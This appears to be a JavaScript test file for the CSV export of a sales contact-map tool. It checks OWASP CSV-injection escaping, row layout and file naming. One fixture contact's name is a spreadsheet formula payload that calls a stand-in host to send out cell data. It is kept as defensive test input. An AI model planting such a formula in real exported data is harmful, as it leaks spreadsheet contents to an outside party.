import { BOM, csvCell, csvFileName, toCsv } from '../csv';
import { buildGrid } from '../gridModel';

const plan = {
  accountId: 'A',
  asOf: '2026-11-20',
  contacts: [
    { id: 'c-ceo', name: 'Pia Sørensen', title: 'Geschäftsführerin', roles: ['Power'], seniority: 'Executive' },
    { id: 'c-cfo', name: 'Finn, "CFO"', title: 'CFO', roles: ['Power', 'Advisor'], seniority: 'VP' },
    { id: 'c-evil', name: '=HYPERLINK("http://ev.il/"&A1,"x")', roles: ['User'], seniority: 'Manager' },
  ],
  members: [
    { id: 'm-ae', name: 'Ann Exec', title: 'Account Executive', seniority: 'Staff' },
    { id: 'm-vp', name: '@Val VP', title: '+1 sales', seniority: 'VP' },
  ],
  relationships: [
    { contactId: 'c-ceo', memberId: 'm-ae', grade: 'S', key: true, horizonDays: 60 },
    { contactId: 'c-cfo', memberId: 'm-vp', key: true, horizonDays: 30 },
  ],
  touches: [],
  blueprints: [],
  opportunities: [],
};

/** The CEO's cell with `changes`, any other cell as it is. */
function ceoWith(cell, changes) {
  return cell.contactId === 'c-ceo' ? { ...cell, ...changes } : cell;
}

const analysis = {
  cells: [
    { contactId: 'c-ceo', memberId: 'm-ae', manual: 'S', effective: 'S', reasons: [], key: true },
    { contactId: 'c-cfo', memberId: 'm-vp', reasons: [], key: true },
    { contactId: 'c-evil', memberId: 'm-vp', suggested: 'I', effective: 'I', reasons: [], key: false },
  ],
  warnings: [],
};

describe('csvCell (OWASP CSV injection)', () => {
  it.each([
    ['=HYPERLINK("http://ev.il/"&A1,"x")', `"'=HYPERLINK(""http://ev.il/""&A1,""x"")"`],
    ['+1 sales', "'+1 sales"],
    ['-2', "'-2"],
    ['@SUM(A1)', "'@SUM(A1)"],
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', `"'\r=1+1"`],
    ['Ada', 'Ada'],
    ['a=b', 'a=b'],
    ['', ''],
    [undefined, ''],
  ])('%j → %s', (value, expected) => {
    expect(csvCell(value)).toBe(expected);
  });
});

describe('toCsv', () => {
  const csv = toCsv(buildGrid(plan, analysis), { accountName: 'Nordwind GmbH', date: '2026-11-20', plan });
  const lines = csv.slice(BOM.length).split('\r\n');

  it('starts with the UTF-8 byte order mark and names the account and the date', () => {
    expect(csv.charCodeAt(0)).toBe(0xfeff);
    expect(lines.slice(0, 3)).toEqual(['Account,Nordwind GmbH', 'Exported on,2026-11-20', '']);
  });

  it('writes names, titles and roles of the contacts, one line per member with marks and horizons', () => {
    expect(lines.slice(3)).toEqual([
      `Team member,Title,Pia Sørensen,"Finn, ""CFO""","'=HYPERLINK(""http://ev.il/""&A1,""x"")"`,
      ',Contact title,Geschäftsführerin,CFO,',
      ',Buyer roles,Power,"Power, Advisor",User',
      '\'@Val VP,\'+1 sales,,"key, 30 days",I (suggested)',
      'Ann Exec,Account Executive,"S (key, 60 days)",,',
      '',
      'Grades: T Trust, O Open, S Satisfied, I Indifferent, D Dissatisfied, M Motivated to change; blank: no relationship.'.replace(
        /^(.*)$/,
        '"$1"',
      ),
      '',
    ]);
  });

  it("marks a grade gravity will lower with its ISO day, in the CLI table's words, and explains the mark", () => {
    const dropping = {
      ...analysis,
      cells: analysis.cells.map((cell) => ceoWith(cell, { dropsOn: '2026-12-09', dropsTo: 'I' })),
    };
    const text = toCsv(buildGrid(plan, dropping), { accountName: 'Nordwind GmbH', date: '2026-11-20', plan });
    const rows = text.slice(BOM.length).split('\r\n');
    expect(rows).toContain('Ann Exec,Account Executive,"S (key, 60 days, until 2026-12-09, then I)",,');
    expect(rows).toContain('"until <day>, then <grade>: gravity lowers the grade that day if nothing new happens."');
    const slipped = {
      ...analysis,
      cells: analysis.cells.map((cell) => ceoWith(cell, { effective: 'I', dropsOn: '2026-12-09', dropsTo: 'I' })),
    };
    expect(toCsv(buildGrid(plan, slipped), { plan })).toContain('"I (key, 60 days, drops to I on 2026-12-09)"');
  });

  it('keeps a key intersection on a blank cell', () => {
    expect(csv).toContain('"key, 30 days"');
  });
});

describe('csvFileName', () => {
  it('names the file after the account and the date, without characters a file system refuses', () => {
    expect(csvFileName('Nordwind GmbH', '2026-11-20')).toBe('contact-map-Nordwind-GmbH-2026-11-20.csv');
    expect(csvFileName('A/B: "C" <D>', '2026-11-20')).toBe('contact-map-A-B-C-D-2026-11-20.csv');
    expect(csvFileName('', '2026-11-20')).toBe('contact-map-account-2026-11-20.csv');
  });
});
